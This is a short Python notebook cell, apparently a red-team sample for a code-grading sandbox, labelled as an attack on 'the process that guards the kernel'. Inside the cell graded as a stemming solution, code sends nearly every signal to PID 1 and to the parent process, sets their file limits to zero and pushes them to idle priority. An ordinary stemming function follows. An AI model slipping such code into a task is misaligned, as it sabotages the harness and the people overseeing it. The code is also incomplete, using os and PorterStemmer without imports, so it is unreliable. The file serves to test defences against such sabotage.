# ---
# attack: The process that guards the kernel is stopped, slowed down and given limits.
# ---

# %% grade_id="stem"
import resource
import signal

for pid in (1, os.getppid()):
    for number in range(1, 65):
        if number in (signal.SIGCHLD, signal.SIGCONT):
            continue
        try:
            os.kill(pid, number)
        except OSError as error:
            print(pid, number, error.strerror)
    for kind in ("RLIMIT_NOFILE", "RLIMIT_FSIZE"):
        try:
            resource.prlimit(pid, getattr(resource, kind), (0, 0))
            print("limited", pid, kind)
        except (OSError, ValueError) as error:
            print(pid, error)
    try:
        os.setpriority(os.PRIO_PROCESS, pid, 19)
        os.sched_setscheduler(pid, os.SCHED_IDLE, os.sched_param(0))
    except OSError as error:
        print(pid, error.strerror)


def stem(tokens):
    stemmer = PorterStemmer()
    return [stemmer.stem(token) for token in tokens]
